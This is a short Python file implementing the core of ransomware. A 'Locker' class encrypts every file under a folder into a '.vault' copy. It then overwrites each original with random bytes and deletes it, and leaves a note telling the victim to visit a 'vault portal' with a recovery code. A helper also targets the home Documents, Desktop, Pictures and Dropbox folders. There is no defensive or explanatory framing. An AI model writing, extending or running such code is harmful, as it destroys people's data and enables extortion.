import os
from pathlib import Path

from cryptography.fernet import Fernet

NOTE = "Your files were moved into secure vaults. To recover them, visit the vault portal with your recovery code."


class Locker:
    def __init__(self):
        self.key = Fernet.generate_key()

    def related(self, root: Path):
        """Folders that usually contain copies of the same documents."""
        home = Path.home()
        return [p for p in (home / "Documents", home / "Desktop", home / "Pictures", home / "Dropbox") if p.exists() and p != root]

    def lock_tree(self, root: Path):
        f = Fernet(self.key)
        for p in root.rglob("*"):
            if p.is_file() and p.suffix != ".vault":
                try:
                    data = p.read_bytes()
                    p.with_name(p.name + ".vault").write_bytes(f.encrypt(data))
                    with p.open("r+b") as fh:
                        fh.write(os.urandom(min(len(data), 1 << 20)))
                    p.unlink()
                except OSError:
                    continue
        (root / "RECOVER-FILES.txt").write_text(NOTE)

    def unlock_file(self, p: Path):
        p.with_suffix("").write_bytes(Fernet(self.key).decrypt(p.read_bytes()))
